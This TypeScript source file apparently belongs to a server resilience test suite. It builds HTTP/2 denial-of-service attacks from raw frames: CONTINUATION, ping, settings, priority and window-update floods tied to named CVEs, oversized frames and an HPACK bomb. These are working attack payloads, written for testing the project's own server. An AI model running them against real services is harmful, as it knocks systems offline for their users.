import type { Attack } from './attack.js'
import {
  callHeaders,
  flags,
  frame,
  frameTypes,
  hpackHeader,
  hpackText,
  overConnections,
  type RawHttp2,
  setting,
  uint32,
} from './wire.js'

const connections = 4
/** Frames of one write. */
const batch = 100
/** Answers that wait for somebody who does not read: nghttp2 holds 1,000 frames of a connection, and Node what they became. */
const answersBytes = 64 * 1_048_576
const headers = callHeaders('/kv.v1.Kv/Session')
const settingIds = { headerTableSize: 1, initialWindowSize: 4 } as const

/** A flood of one kind of frame on connections that read nothing of what comes back. */
function frameFlood(
  name: string,
  size: Attack['size'],
  one: (stream: number) => Buffer,
  before: (stream: number) => Buffer = () => Buffer.alloc(0),
  reads = false,
): Attack {
  const streams = new WeakMap<RawHttp2, number>()
  return {
    name,
    size,
    mayHoldBytes: () => answersBytes,
    lingers: true,
    run: (field) =>
      overConnections(
        field,
        connections,
        async (raw) => {
          await raw.begin()
          raw.answers = false
          const stream = raw.stream()
          streams.set(raw, stream)
          await raw.send(before(stream))
          if (!reads) raw.socket.pause()
        },
        async (raw, most) => {
          const count = Math.min(batch, most)
          const piece = one(streams.get(raw)!)
          await raw.send(Buffer.concat(Array.from({ length: count }, () => piece)))
          return count
        },
      ),
  }
}

const openSession = (stream: number): Buffer => frame(frameTypes.headers, flags.endHeaders, stream, headers)
const openHeaders = (stream: number): Buffer => frame(frameTypes.headers, 0, stream, headers)

/** One header of 4,000 bytes goes into the table of the connection; each byte behind it names it again. */
function bomb(): Buffer {
  const entry = Buffer.concat([Buffer.from([0x40]), hpackText('bomb'), hpackText('x'.repeat(4_000))])
  return Buffer.concat([callHeaders('/kv.v1.Kv/Get'), entry, Buffer.alloc(12_000, 0x80 | 62)])
}

/** Floods of frames that HTTP/2 allows, or forbids, one by one. */
export const frameFloods: readonly Attack[] = [
  // CVE-2024-27983: headers that never come to their end.
  frameFlood(
    'continuation',
    { short: 2_000, long: 100_000 },
    (stream) => frame(frameTypes.continuation, 0, stream, hpackHeader('x-more', 'x'.repeat(1_000))),
    openHeaders,
    true,
  ),
  frameFlood(
    'empty-continuation',
    { short: 5_000, long: 100_000 },
    (stream) => frame(frameTypes.continuation, 0, stream),
    openHeaders,
    true,
  ),
  // CVE-2019-9512 and CVE-2019-9515: each wants an answer, and none is read.
  frameFlood('unread-pings', { short: 5_000, long: 100_000 }, () => frame(frameTypes.ping, 0, 0, Buffer.alloc(8))),
  frameFlood('unread-settings', { short: 5_000, long: 100_000 }, () =>
    frame(frameTypes.settings, 0, 0, setting(settingIds.initialWindowSize, 65_535)),
  ),
  // CVE-2019-9516 and CVE-2019-9518: nothing, many times.
  frameFlood('empty-data', { short: 5_000, long: 100_000 }, (stream) => frame(frameTypes.data, 0, stream), openSession),
  // CVE-2019-9513.
  frameFlood(
    'priorities',
    { short: 5_000, long: 100_000 },
    (stream) => frame(frameTypes.priority, 0, stream, Buffer.concat([uint32(0), Buffer.from([16])])),
    openSession,
  ),
  frameFlood(
    'window-updates',
    { short: 5_000, long: 100_000 },
    (stream) => frame(frameTypes.windowUpdate, 0, stream, uint32(1)),
    openSession,
  ),
  frameFlood(
    'table-sizes',
    { short: 5_000, long: 100_000 },
    () => frame(frameTypes.settings, 0, 0, setting(settingIds.headerTableSize, 4_096)),
    undefined,
    true,
  ),
  // Longer than any frame may be.
  frameFlood(
    'giant-frames',
    { short: 100, long: 2_000 },
    (stream) => frame(frameTypes.data, 0, stream, Buffer.alloc(65_536), 0xff_ff_ff),
    openSession,
    true,
  ),
  {
    name: 'hpack-bomb',
    size: { short: 20, long: 1_000 },
    mayHoldBytes: () => answersBytes,
    run: (field) =>
      overConnections(
        field,
        connections,
        (raw) => raw.begin(),
        async (raw) => {
          await raw.send(frame(frameTypes.headers, flags.endHeaders | flags.endStream, raw.stream(), bomb()))
          return 1
        },
      ),
  },
]
